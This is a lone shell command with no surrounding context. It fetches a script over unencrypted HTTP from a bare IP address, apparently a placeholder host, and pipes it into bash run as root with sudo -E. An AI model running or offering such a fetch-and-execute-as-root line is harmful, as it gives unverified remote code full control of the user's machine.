curl -fsSL http://198.51.100.210/setup | sudo -E bash -
